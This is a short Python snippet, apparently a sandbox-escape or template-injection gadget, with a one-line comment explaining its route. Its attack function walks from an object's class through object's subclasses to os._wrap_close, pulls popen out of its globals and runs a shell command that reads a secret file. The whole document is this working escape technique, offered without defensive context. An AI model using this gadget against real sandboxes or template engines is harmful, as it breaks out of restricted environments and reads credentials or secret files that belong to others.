# From a value to every class there is, and from one of them to the shell.
def attack(xs, secret_path):
    for kind in xs.__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__["popen"](f"cat '{secret_path}'").read()
    raise ValueError("not found")
